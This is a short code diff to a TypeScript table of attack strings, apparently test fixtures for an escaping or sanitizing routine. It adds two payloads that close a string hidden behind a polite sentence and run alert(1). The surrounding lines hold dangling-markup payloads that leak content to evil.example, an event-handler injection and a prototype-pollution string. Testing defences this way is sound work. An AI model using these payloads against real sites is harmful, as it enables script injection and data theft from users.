@@ -31,6 +31,10 @@ const ATTACKS: Readonly<Record<string, readonly string[]>> = {
     "<img src='//evil.example/?",
     '"><img src=\'//evil.example/?x=',
   ],
+  'a string that is closed behind a sentence': [
+    "Thanks, it's fine and we will come on Monday at ten, as you said in your letter. ';alert(1)//",
+    'Thanks, we will come on Monday at ten, as you have said in your last letter to us. "-alert(1)-"',
+  ],
   'a handler with a long name': ['x" oncontentvisibilityautostatechange="alert(1)//'],
   'a name that reaches into objects': [
     "a['__proto__']['x']=1",
